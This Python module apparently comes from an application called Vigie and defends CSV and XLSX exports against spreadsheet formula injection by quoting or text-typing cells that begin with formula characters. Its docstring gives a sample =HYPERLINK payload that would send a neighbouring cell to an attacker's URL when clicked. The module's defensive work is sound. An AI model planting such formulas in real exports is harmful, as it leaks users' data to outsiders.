"""Cells a spreadsheet must not read as formulas: the one place every CSV and XLSX export asks.

A text cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab, CR or LF, which some
spreadsheets skip before looking) is run as a formula by Excel and LibreOffice when a CSV is
opened: ``=HYPERLINK("http://…"&B2,"clic")`` typed as a user name at the login form would send
the next cell to whoever wrote it, one click away (OWASP "CSV injection"). Text taken from users
or input files goes through :func:`csv_cell` (CSV) or :func:`xlsx_cell` (XLSX) on its way out.

CSV: such a cell gets a leading single quote, as OWASP recommends; a cell that already starts
with a quote gets one more, so that :func:`restore` (strip one leading quote) gives back exactly
what was stored, e.g. to recompute an audit row's hash from an export. Numbers are left alone:
a negative amount is a number, not a formula.

XLSX: the cell is written as a string (never a formula) with the "quote prefix" style, so a
spreadsheet keeps it as text even when the cell is edited; no quote is added to the text.
Formulas Vigie writes on purpose go through :func:`xlsx_formula`, which is the only way a formula
gets into a workbook.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl (and numpy behind it) costs every CLI command 0.15 s to import
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""What makes a spreadsheet read a text cell as a formula (OWASP's list, plus LF)."""

QUOTE = "'"


def is_hostile(value: object) -> bool:
    """True for text a spreadsheet would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """The value to write in a CSV cell: text that could be a formula is quoted (reversibly)."""
    if isinstance(value, str) and (is_hostile(value) or value.startswith(QUOTE)):
        return QUOTE + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """:func:`csv_cell` over a row of ``csv.writer``."""
    return [csv_cell(value) for value in values]


def csv_record(row: Mapping[str, Any]) -> dict[str, Any]:
    """:func:`csv_cell` over a row of ``csv.DictWriter``."""
    return {name: csv_cell(value) for name, value in row.items()}


def restore(cell: str) -> str:
    """The stored text of a cell :func:`csv_cell` wrote (one leading quote removed)."""
    return cell[1:] if cell.startswith(QUOTE) else cell


def xlsx_cell(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Write data (anything but an intended formula) into a cell: text always stays text."""
    cell = ws.cell(row, column)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl makes any text starting with "=" a formula
        if is_hostile(value):
            cell.quotePrefix = True
    return cell


def xlsx_formula(ws: Worksheet, row: int, column: int, formula: str) -> Cell:
    """Write a formula Vigie built itself (never text from a user or an input file)."""
    if not formula.startswith("="):
        raise ValueError(f"not a formula: {formula!r}")
    cell = ws.cell(row, column)
    cell.value = formula
    cell.data_type = "f"
    return cell
